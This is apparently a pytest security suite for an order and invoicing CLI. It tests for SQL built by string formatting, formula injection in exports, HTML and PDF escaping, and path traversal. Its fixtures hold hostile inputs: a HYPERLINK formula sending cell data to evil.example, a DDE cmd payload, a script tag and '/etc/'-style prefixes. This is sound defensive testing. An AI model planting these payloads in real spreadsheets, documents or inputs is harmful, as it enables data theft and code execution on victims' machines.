"""Security checks: what a hostile name, reference or number prefix must never do.

* SQL is never built by string formatting (an ``ast`` scan of the product, and
  ruff's S608 selected for it);
* spreadsheet formulas are neutralised in every export kind, CSV and XLSX alike
  (SPEC "Exports … neutralise spreadsheet formulas in text cells");
* HTML documents are autoescaped, and ReportLab markup typed by a user is printed
  literally in the PDF (SPEC "text from users is escaped in both");
* files are written where the user named them and nowhere else, with no temporary
  file left behind, whatever a document number's prefix holds.
"""

from __future__ import annotations

import ast
import csv
import re
import resource
import signal
import sqlite3
import subprocess
import tomllib
from pathlib import Path

import pytest
from robustness_support import ROOT, ordercli_command, write_orders

from ordercli.db.engine import dispose_all

# --- (a) no SQL built by string formatting ------------------------------------------

SQL_CALLS = {"text", "execute", "executemany", "executescript", "exec_driver_sql"}
SQL_START = re.compile(
    r"^\s*(SELECT|INSERT|UPDATE|DELETE|PRAGMA|BEGIN|CREATE|ALTER|DROP|WITH|REPLACE|VACUUM)\b"
)
# Statements the scan may find in the product: none. A new one fails the tests below.
KNOWN_FORMATTED_SQL: set[tuple[str, str]] = set()


def _formatting(node: ast.AST) -> str | None:
    """How ``node`` builds a string from values, if it does."""
    if isinstance(node, ast.JoinedStr):
        if any(isinstance(part, ast.FormattedValue) for part in node.values):
            return "f-string"
    elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod):
        if isinstance(node.left, ast.Constant | ast.JoinedStr):
            return "%-formatting"
    elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
        if node.func.attr == "format":
            return ".format()"
    elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        parts: list[ast.AST] = []

        def flatten(part: ast.AST) -> None:
            if isinstance(part, ast.BinOp) and isinstance(part.op, ast.Add):
                flatten(part.left)
                flatten(part.right)
            else:
                parts.append(part)

        flatten(node)
        if any(not (isinstance(p, ast.Constant) and isinstance(p.value, str)) for p in parts):
            return "+ concatenation"
    return None


def _leading_text(node: ast.AST) -> str:
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        return node.value
    if isinstance(node, ast.JoinedStr) and node.values:
        return _leading_text(node.values[0])
    if isinstance(node, ast.BinOp):
        return _leading_text(node.left)
    if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
        return _leading_text(node.func.value)
    return ""


class _Scope(ast.NodeVisitor):
    """Names assigned in each function (and the module), to follow ``text(query)``."""

    def __init__(self) -> None:
        self.assigned: dict[ast.AST, dict[str, list[ast.AST]]] = {}
        self.stack: list[ast.AST] = []

    def visit_Module(self, node):
        self.stack.append(node)
        self.generic_visit(node)

    def visit_FunctionDef(self, node):
        self.stack.append(node)
        self.generic_visit(node)
        self.stack.pop()

    visit_AsyncFunctionDef = visit_FunctionDef

    def visit_Assign(self, node):
        for target in node.targets:
            if isinstance(target, ast.Name):
                names = self.assigned.setdefault(self.stack[-1], {})
                names.setdefault(target.id, []).append(node.value)
        self.generic_visit(node)


def formatted_sql(root: Path) -> list[tuple[str, int, str, str]]:
    """``(file, line, how, statement)`` for every SQL statement built by formatting:
    the SQL argument of ``text()``/``execute()``/``exec_driver_sql()`` (directly or
    through a name assigned in the same function or module), and any formatted string
    that starts like SQL wherever it is."""
    found: set[tuple[str, int, str, str]] = set()
    for path in sorted((root / "ordercli").rglob("*.py")):
        name = path.relative_to(root).as_posix()
        tree = ast.parse(path.read_text(encoding="utf-8"), name)
        scopes = _Scope()
        scopes.visit(tree)
        functions = [tree] + [
            n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef | ast.AsyncFunctionDef)
        ]
        for scope in functions:
            for node in ast.walk(scope):
                if not (isinstance(node, ast.Call) and node.args):
                    continue
                func = node.func
                called = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
                if called not in SQL_CALLS:
                    continue
                candidates = [node.args[0]]
                if isinstance(node.args[0], ast.Name):
                    for owner in (scope, tree):
                        candidates += scopes.assigned.get(owner, {}).get(node.args[0].id, [])
                for candidate in candidates:
                    how = _formatting(candidate)
                    if how:
                        found.add((name, candidate.lineno, how, ast.unparse(candidate)))
        for node in ast.walk(tree):
            how = _formatting(node)
            if how and SQL_START.match(_leading_text(node)):
                found.add((name, node.lineno, how, ast.unparse(node)))
    return sorted(found)


def test_the_scan_catches_each_way_of_formatting_sql(tmp_path):
    """The scanner itself: it finds what it must and passes what it must."""
    (tmp_path / "ordercli").mkdir()
    (tmp_path / "ordercli" / "bad.py").write_text(
        "def a(c, t):\n"
        "    c.execute(text(f'SELECT * FROM {t}'))\n"
        "    c.execute('DELETE FROM x WHERE id = %s' % t)\n"
        "    c.exec_driver_sql('UPDATE x SET a = {}'.format(t))\n"
        "    query = 'SELECT a FROM ' + t\n"
        "    c.execute(text(query))\n"
        "    c.execute(text('SELECT 1 WHERE a = :a'), {'a': t})\n"
        "    message = f'select {t} from the list'\n",
        encoding="utf-8",
    )
    found = [(line, how) for _, line, how, _ in formatted_sql(tmp_path)]
    assert found == [(2, "f-string"), (3, "%-formatting"), (4, ".format()"), (5, "+ concatenation")]


def _listed(found) -> str:
    return "\n".join(f"{file}:{line}: {how}: {statement}" for file, line, how, statement in found)


def test_no_sql_is_built_by_string_formatting():
    found = formatted_sql(ROOT)
    print(f"sql scan: {len(found)} statements built by formatting\n{_listed(found)}")
    assert found == [], _listed(found)


def test_no_sql_is_built_by_formatting_beyond_the_known_cases():
    """Until the cases above are fixed, no new one may join them."""
    found = formatted_sql(ROOT)
    files = len(list((ROOT / "ordercli").rglob("*.py")))
    new = [f for f in found if (f[0], f[3]) not in KNOWN_FORMATTED_SQL]
    assert new == [], _listed(new)
    print(f"sql scan: {files} product files, {len(found)} known formatted statements, 0 new")


def test_ruff_checks_for_sql_built_from_strings():
    config = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
    lint = config["tool"]["ruff"]["lint"]
    assert "S608" in lint["select"] or "S" in lint["select"]
    assert "S608" not in lint.get("ignore", [])
    for pattern, ignored in lint.get("per-file-ignores", {}).items():
        if "S608" in ignored or "S" in ignored:
            assert pattern.startswith("tests/"), f"S608 switched off for {pattern}"


# --- (b) formula injection ------------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
EXPORT_KINDS = ("invoices", "invoice-lines", "payments", "credit-memos", "orders", "journal")
# What a hostile user types, where; each must come out neutralised in some export.
HOSTILE = {
    "customer name": '=HYPERLINK("http://evil.example/?d="&A1,"Open invoice")',
    "customer code": "@EVIL",
    "product name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sku": "-SKU",
    "payment reference": "-1+1",
    "payment method": "+1",
    "credit memo reason": "=1+1",
    "order reference": "+ORDER-1",
    "account name": '=HYPERLINK("http://evil.example")',
    "account code": "@4000",
}
# Written behind ordercli's back (the commands trim and refuse them): a tab or a carriage
# return before the text, which some spreadsheets also run as a formula.
SMUGGLED = {
    "UPDATE invoice_line SET description = char(9) || '=TAB()' "
    "WHERE invoice_id = (SELECT MAX(id) FROM invoice)": "\t=TAB()",
    "UPDATE order_line SET description = char(13) || '=CR()' "
    "WHERE order_id = (SELECT MAX(id) FROM sales_order)": "\r=CR()",
    "UPDATE payment SET reference = char(9) || 'tab reference' "
    "WHERE reference = 'SMUGGLE'": "\ttab reference",
    "UPDATE credit_memo SET reason = char(13) || 'cr reason' "
    "WHERE reason = 'SMUGGLE'": "\rcr reason",
    "UPDATE journal_entry SET memo = char(9) || '=MEMO()' "
    "WHERE id = (SELECT MAX(id) FROM journal_entry)": "\t=MEMO()",
}
PLAIN = re.compile(r"-?\d+(\.\d+)?|\d{4}-\d{2}-\d{2}|true|false|")


def done(cli, *args: str) -> None:
    """Run exactly ``args`` (``--`` before an argument that starts with '-') and succeed."""
    result = cli.run(*args)
    assert result.exit_code == 0, (args, result.stdout, result.stderr)


def build_hostile_ledger(cli, folder: Path) -> None:
    """One of everything every export holds, named by a hostile user."""
    cli.ok("customer", "add", HOSTILE["customer name"], "--code", HOSTILE["customer code"])
    done(cli, "product", "add", "--price", "10.00", "--tax-rate", "19", "--", HOSTILE["sku"], "x")
    done(cli, "product", "edit", "--name", HOSTILE["product name"], "--", HOSTILE["sku"])
    code = HOSTILE["customer code"]
    order = cli.ok("order", "new", code)["number"]
    done(cli, "order", "add-line", "--", order, HOSTILE["sku"], "3")
    cli.ok("order", "confirm", order)
    invoice = cli.ok("invoice", "create", order)["number"]
    cli.ok(
        "payment",
        "record",
        code,
        "10.00",
        "--reference",
        HOSTILE["payment reference"],
        "--method",
        HOSTILE["payment method"],
    )
    cli.ok(
        "credit-memo",
        "create",
        invoice,
        "--amount",
        "1.00",
        "--reason",
        HOSTILE["credit memo reason"],
    )
    cli.ok(
        "account",
        "set",
        "revenue",
        "--code",
        HOSTILE["account code"],
        "--name",
        HOSTILE["account name"],
    )
    orders = folder / "orders.csv"
    orders.write_text(
        "order_ref,customer_code,order_date,sku,qty,unit_price,confirm\n"
        f"{HOSTILE['order reference']},{code},2026-01-15,DESK-OAK,1,489.00,true\n",
        encoding="utf-8",
    )
    assert cli.ok("import", "orders", str(orders))["created"] == 1
    # The rows SMUGGLED rewrites behind ordercli's back.
    invoice = cli.ok("invoice", "create", "SO-00002")["number"]
    cli.ok("payment", "record", code, "5.00", "--reference", "SMUGGLE")
    cli.ok("credit-memo", "create", invoice, "--amount", "1.00", "--reason", "SMUGGLE")


def smuggle(ledger: Path) -> None:
    dispose_all()
    connection = sqlite3.connect(ledger)
    try:
        with connection:
            for statement in SMUGGLED:
                assert connection.execute(statement).rowcount > 0, statement
    finally:
        connection.close()


def csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def xlsx_text_cells(path: Path) -> list[str]:
    from openpyxl import load_workbook

    book = load_workbook(path)
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name} {cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    return cells


@pytest.mark.sqlite_only("smuggles formulas into the ledger file with sqlite3")
def test_formulas_are_neutralised_in_every_export(shop, ledger_path, tmp_path):
    build_hostile_ledger(shop, tmp_path)
    smuggle(ledger_path)
    checked = 0
    seen: set[str] = set()
    for kind in EXPORT_KINDS:
        for fmt in ("csv", "xlsx"):
            target = tmp_path / f"{kind}.{fmt}"
            document = shop.ok("export", kind, "-o", str(target))
            assert document["rows"] > 0, f"export {kind} is empty: nothing proven"
            if fmt == "csv":
                cells = [c for c in csv_cells(target) if not PLAIN.fullmatch(c)]
            else:
                cells = xlsx_text_cells(target)
            unsafe = [c for c in cells if c.startswith(FORMULA_STARTS)]
            assert unsafe == [], f"export {kind} --format {fmt}: {unsafe}"
            checked += len(cells)
            seen.update(cells)
    written = {*HOSTILE.values(), *SMUGGLED.values()}
    missing = sorted(value for value in written if "'" + value not in seen)
    assert missing == [], f"never exported (so not proven): {missing}"
    print(
        f"formula injection: {len(EXPORT_KINDS)} export kinds × CSV and XLSX, {checked} text "
        f"cells checked, {len(written)} hostile values all neutralised"
    )


# --- (c, d) documents: HTML autoescaped, ReportLab markup literal ---------------------

SCRIPT = "<script>alert(1)</script>"
MARKUP = "<font color=red>Red</font> & <b>bold</b>"


@pytest.fixture
def hostile_invoice(shop):
    """INV-00001 for a customer named with a script, for a product named with markup."""
    shop.ok("customer", "add", SCRIPT, "--code", "XSS", "--billing-address", MARKUP)
    shop.ok("product", "add", "MARKUP", MARKUP, "--price", "5.00")
    shop.ok("order", "new", "XSS")
    shop.ok("order", "add-line", "SO-00001", "MARKUP", "1")
    shop.ok("order", "confirm", "SO-00001")
    shop.ok("invoice", "create", "SO-00001")
    return shop


def test_html_documents_escape_what_users_typed(hostile_invoice, tmp_path):
    target = tmp_path / "invoice.html"
    hostile_invoice.ok("invoice", "pdf", "INV-00001", "--html", "-o", str(target))
    html = target.read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script>alert" not in html
    assert "&lt;font color=red&gt;Red&lt;/font&gt; &amp; &lt;b&gt;bold&lt;/b&gt;" in html
    assert "<font color=red>" not in html
    print("html: a customer named <script>… and markup in a product name appear escaped")


def test_pdf_prints_reportlab_markup_literally(hostile_invoice, tmp_path):
    from pypdf import PdfReader

    target = tmp_path / "invoice.pdf"
    hostile_invoice.ok("invoice", "pdf", "INV-00001", "-o", str(target))
    text = " ".join(page.extract_text() for page in PdfReader(target).pages)
    text = " ".join(text.split())
    assert "<font color=red>Red</font> & <b>bold</b>" in text
    assert SCRIPT in text
    print("pdf: ReportLab markup and a <script> name printed literally")


# --- (e) output paths -----------------------------------------------------------------


def tree(folder: Path) -> set[str]:
    return {p.relative_to(folder).as_posix() for p in folder.rglob("*")}


@pytest.fixture
def workspace(tmp_path, monkeypatch):
    """A working directory ``work/here`` beside ``work/out``; the ledger is elsewhere."""
    here = tmp_path / "work" / "here"
    here.mkdir(parents=True)
    (tmp_path / "work" / "out").mkdir()
    monkeypatch.chdir(here)
    return tmp_path / "work"


def test_relative_paths_with_dot_dot_write_exactly_there(hostile_invoice, workspace):
    before = tree(workspace)
    cli = hostile_invoice
    cli.ok("invoice", "pdf", "INV-00001", "-o", "../out/invoice.pdf")
    cli.ok("invoice", "pdf", "INV-00001", "--html", "-o", "../out/../out/invoice.html")
    cli.ok("export", "invoices", "-o", "../out/invoices.csv")
    cli.ok("export", "journal", "-o", "../out/journal.xlsx")
    added = tree(workspace) - before
    assert added == {
        "out/invoice.pdf",
        "out/invoice.html",
        "out/invoices.csv",
        "out/journal.xlsx",
    }
    assert all(Path(workspace, name).stat().st_size > 0 for name in added)
    print(f"paths: {len(added)} files written through ../ exactly where named, nothing else")


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["export", "invoices", "-o", "../missing/invoices.csv"], "does not exist"),
        (["export", "invoices", "-o", "../out"], "is a directory"),
        (["export", "invoices", "-o", "."], "is a directory"),
        (["invoice", "pdf", "INV-00001", "-o", "../missing/invoice.pdf"], "does not exist"),
        (["invoice", "pdf", "INV-00001", "-o", "../out"], "is a directory"),
    ],
    ids=[
        "export into a missing directory",
        "export -o DIR",
        "export -o .",
        "pdf into a missing directory",
        "pdf -o DIR",
    ],
)
def test_refused_output_leaves_no_file_behind(hostile_invoice, workspace, unchanged, args, message):
    before = tree(workspace)
    with unchanged():
        error = hostile_invoice.fails(*args)
    assert message in error
    assert tree(workspace) == before, "a refused command left a file behind"


TOO_LONG = "x" * 300  # beyond the 255 bytes a file name may have


@pytest.mark.parametrize(
    "args",
    [
        ["export", "invoices", "-o", f"../out/{TOO_LONG}.csv"],
        ["invoice", "pdf", "INV-00001", "-o", f"../out/{TOO_LONG}.pdf"],
        ["invoice", "pdf", "--all", "-o", f"../out/{TOO_LONG}"],
        ["import", "orders", f"../out/{TOO_LONG}.csv"],
        ["backup", f"../out/{TOO_LONG}.db"],
        ["restore", f"../out/{TOO_LONG}.db"],
        ["--db", f"../out/{TOO_LONG}.db", "status"],
    ],
    ids=[
        "export -o",
        "invoice pdf -o",
        "invoice pdf --all -o",
        "import",
        "backup",
        "restore",
        "--db",
    ],
)
def test_a_file_name_too_long_is_refused_clearly(hostile_invoice, workspace, unchanged, args):
    before = tree(workspace)
    # A ledger that cannot be opened is exit 3 (SPEC); everything else is a refusal, 1.
    code = 3 if args[0] == "--db" else 1
    with unchanged():
        error = hostile_invoice.fails(*args, code=code)
    assert not error.startswith("error: unexpected "), error
    assert tree(workspace) == before


def test_export_output_replaces_a_file_whole_and_leaves_no_temporary(hostile_invoice, workspace):
    target = workspace / "out" / "invoices.csv"
    target.write_text("an older export\n", encoding="utf-8")
    before = tree(workspace)
    hostile_invoice.ok("export", "invoices", "-o", "../out/invoices.csv")
    assert tree(workspace) == before
    assert target.read_text(encoding="utf-8").startswith("number,")


FILE_SIZE_LIMIT = 64 * 1024  # room for SQLite's 32 KiB shared-memory file, not an export


def _small_disk() -> None:
    """In the child: files may grow to FILE_SIZE_LIMIT, then writes fail (EFBIG), as on a
    full disk."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (FILE_SIZE_LIMIT, FILE_SIZE_LIMIT))


@pytest.mark.parametrize("name", ["orders.csv", "orders.xlsx"])
@pytest.mark.sqlite_only("runs ordercli on the SQLite ledger_path of tests/robustness/conftest.py")
def test_a_write_that_fails_midway_keeps_the_old_file_and_leaves_no_temporary(
    shop, ledger_path, workspace, name
):
    orders = workspace / "orders-in.csv"
    write_orders(orders, 1_500, seed=7)
    shop.ok("import", "orders", str(orders))
    dispose_all()
    target = workspace / "out" / name
    target.write_bytes(b"last month's export\n")
    before = tree(workspace)
    result = subprocess.run(
        ordercli_command("--db", str(ledger_path), "export", "orders", "-o", f"../out/{name}"),
        preexec_fn=_small_disk,
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )
    assert (result.returncode, result.stderr.splitlines()) == (
        1,
        [f"error: cannot write ../out/{name}: File too large"],
    )
    assert tree(workspace) == before, "a temporary file was left behind"
    assert target.read_bytes() == b"last month's export\n"
    print(f"paths: export {name} failing at {FILE_SIZE_LIMIT // 1024} KiB kept the old file whole")


def test_number_prefixes_never_lead_files_out_of_the_directory(
    hostile_invoice, workspace, engine, fingerprint
):
    cli = hostile_invoice
    before = fingerprint(engine)
    for prefix in ("../x/", "/etc/", "..", "./"):
        assert "prefix" in cli.fails("numbering", "set", "invoice", "--prefix", prefix)
    assert fingerprint(engine) == before
    # Prefixes that pass the check may still hold '/' and '..'.
    shapes = ("x/../../", "a/b/", "x..", "Q.")
    for number, prefix in enumerate(shapes, start=2):
        cli.ok("numbering", "set", "invoice", "--prefix", prefix)
        cli.ok("order", "new", "XSS")
        cli.ok("order", "add-line", f"SO-{number:05d}", "MARKUP", "1")
        cli.ok("order", "confirm", f"SO-{number:05d}")
        cli.ok("invoice", "create", f"SO-{number:05d}")
    invoices = [i["number"] for i in cli.ok("invoice", "list", "--all")]
    assert len(invoices) == 1 + len(shapes)
    outside = tree(workspace)
    target = workspace / "out" / "batch"
    document = cli.ok("invoice", "pdf", "--all", "-o", "../out/batch")
    written = {p.resolve() for p in target.rglob("*") if p.is_file()}
    assert len(written) == document["count"] == len(invoices)
    assert all(p.parent == target.resolve() for p in written), written
    assert tree(workspace) - outside == {"out/batch", *(f"out/batch/{p.name}" for p in written)}
    # One document by its default name lands in the working directory, nowhere else.
    here = tree(workspace / "here")
    cli.ok("invoice", "pdf", next(n for n in invoices if n.startswith("x/../../")))
    added = tree(workspace / "here") - here
    assert len(added) == 1 and "/" not in next(iter(added)), added
    print(
        "paths: prefixes ../x/, /etc/, .., ./ refused; with "
        f"{', '.join(shapes)} all {len(written)} PDFs of --all stayed inside -o DIR"
    )
